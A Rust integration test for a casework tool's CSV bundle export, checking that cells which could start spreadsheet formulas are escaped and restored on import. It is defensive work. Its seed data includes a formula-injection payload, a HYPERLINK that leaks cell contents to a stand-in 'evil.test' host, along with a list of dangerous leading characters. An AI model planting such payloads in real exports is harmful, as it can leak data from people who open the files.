//! A bundle is safe to open in a spreadsheet and still round-trips exactly (issue 11, defect 6):
//! `linkwork export bundle` writes a cell that would start a formula with a leading `'`, and
//! `linkwork import bundle` takes it off again, on SQLite and PostgreSQL.

use linkwork_domain::access::OrgKind;
use linkwork_domain::casework::contact::{ContactMode, Minutes};
use linkwork_domain::casework::need::NeedDomain;
use linkwork_domain::person::{DateOfBirth, Ethnicity, PersonDetails, Sex};
use linkwork_domain::casework::referral::{ReferralReason, ReferralSource};
use linkwork_domain::{NhsNumber, Postcode, RequiredText};
use linkwork_store::{AuditActor, NewContact, NewOrg, NewReferral, ReferralChange};
use std::process::Command;

fn linkwork(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_linkwork")).args(args).env_remove("LINKWORK_DATABASE").output().unwrap()
}

fn today() -> time::Date {
    time::OffsetDateTime::now_utc().date()
}

/// The awkward values: formulas, a number that must stay a number, one that already starts with an
/// apostrophe, a phone number, an at sign.
const GIVEN: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
const FAMILY: &str = "'=x";
const REFERRER: &str = "@x";
const REASON: &str = "+44 20 7946 0000";
const NOTES: &str = "-5";
const SUMMARY: &str = "''@SUM(1)";

async fn seed(url: &str) {
    let store = linkwork_store::testing::migrated(url).await.unwrap();
    let org = |kind, name: &str, ods: &str, parent: Option<String>| NewOrg { kind, name: name.into(), ods_code: Some(ods.into()), parent_id: parent, list_size: None };
    let icb = store.create_org(&org(OrgKind::Icb, "ICB", "QZZ", None)).await.unwrap();
    let pcn = store.create_org(&org(OrgKind::Pcn, "-PCN", "U77777", Some(icb))).await.unwrap();
    let practice = store.create_org(&org(OrgKind::Practice, "@Practice", "Y77777", Some(pcn.clone()))).await.unwrap();
    let who = AuditActor { user_id: None, token_id: None, org_id: Some(pcn.clone()) };
    let referral = NewReferral {
        service_org_id: pcn,
        person: PersonDetails {
            nhs_number: NhsNumber::parse("9434765919").unwrap(),
            given_name: RequiredText::parse("given_name", "name", GIVEN).unwrap(),
            family_name: RequiredText::parse("family_name", "name", FAMILY).unwrap(),
            date_of_birth: DateOfBirth::new(time::macros::date!(1950 - 05 - 01), today()).unwrap(),
            sex: Sex::Female,
            ethnicity: Ethnicity::WhiteBritish,
            postcode: Postcode::parse("LS1 4AP").unwrap(),
        },
        practice_id: Some(practice),
        source: ReferralSource::GpPractice,
        referrer_name: REFERRER.into(),
        reason: ReferralReason::parse("reason", "reason", REASON).unwrap(),
        needs: vec![NeedDomain::Loneliness],
        needs_to_confirm: false,
        referred_on: today() - time::Duration::days(20),
        assigned_worker_id: None,
        consent: Default::default(),
        contact: Default::default(),
    };
    let id = store.create_referrals(&who, &[referral]).await.unwrap().remove(0);
    store.change_referral(&who, &id, linkwork_domain::casework::referral::ReferralStatus::Received, &ReferralChange::Accept { on: today() - time::Duration::days(19), worker_id: None }).await.unwrap();
    let contact = NewContact { contact_on: today() - time::Duration::days(18), mode: ContactMode::Phone, minutes: Minutes::parse("20").unwrap(), accompanied: false, notes: Some(NOTES.into()) };
    store.add_contact(&who, &id, &contact).await.unwrap();
    let discharge = ReferralChange::Discharge { on: today() - time::Duration::days(1), reason: linkwork_domain::casework::referral::DischargeReason::GoalsMet, summary: Some(SUMMARY.into()) };
    store.change_referral(&who, &id, linkwork_domain::casework::referral::ReferralStatus::Accepted, &discharge).await.unwrap();
}

/// The values as stored: the person's names, referrer, reason, contact notes and summary.
async fn values(url: &str) -> Vec<String> {
    let store = linkwork_store::connect(url).await.unwrap();
    let pcn = store.find_org("U77777").await.unwrap().unwrap().id;
    let who = AuditActor { user_id: None, token_id: None, org_id: Some(pcn.clone()) };
    let line = store.caseload(&pcn, None, false).await.unwrap().remove(0);
    let r = store.referral_record(&who, &line.referral_id).await.unwrap().unwrap();
    vec![
        r.person.given_name.clone(),
        r.person.family_name.clone(),
        r.referral.referrer_name.clone(),
        r.referral.reason.clone(),
        r.contacts[0].notes.clone().unwrap_or_default(),
        r.referral.discharge_summary.clone().unwrap_or_default(),
    ]
}

#[tokio::test]
async fn exported_cells_cannot_start_formulas_and_the_import_restores_them_exactly() {
    let dir = std::env::temp_dir().join(format!("linkwork-bundle-formulas-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let sources = linkwork_store::testing::fresh_database_urls(&dir).await;
    let targets = linkwork_store::testing::fresh_database_urls(&dir).await;
    for ((backend, source), (_, target)) in sources.iter().zip(&targets) {
        seed(source).await;
        let expected = vec![GIVEN, FAMILY, REFERRER, REASON, NOTES, SUMMARY];
        assert_eq!(values(source).await, expected, "{backend}: stored as entered");

        let folder = dir.join(format!("bundle-{backend}"));
        let o = linkwork(&["export", "bundle", folder.to_str().unwrap(), "--database", source, "--org", "U77777"]);
        assert!(o.status.success(), "{backend}: {}", String::from_utf8_lossy(&o.stderr));
        for file in std::fs::read_dir(&folder).unwrap() {
            let path = file.unwrap().path();
            if path.extension().is_some_and(|e| e == "csv") {
                let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_path(&path).unwrap();
                for record in reader.records() {
                    for cell in record.unwrap().iter() {
                        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !linkwork_domain::interop::csv_safe::is_number(cell);
                        assert!(!formula, "{backend}: {} has the cell {cell:?}", path.display());
                    }
                }
            }
        }
        let people = std::fs::read_to_string(folder.join("people.csv")).unwrap();
        assert!(people.contains("\"'=HYPERLINK(") && people.contains(",''=x,"), "{backend}: {people}");
        let contacts = std::fs::read_to_string(folder.join("contacts.csv")).unwrap();
        assert!(contacts.contains(",-5"), "{backend}: a number stays a number: {contacts}");

        let o = linkwork(&["import", "bundle", folder.to_str().unwrap(), "--database", target]);
        assert!(o.status.success(), "{backend}: {}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
        assert_eq!(values(target).await, expected, "{backend}: the import restores every value exactly");
    }
}
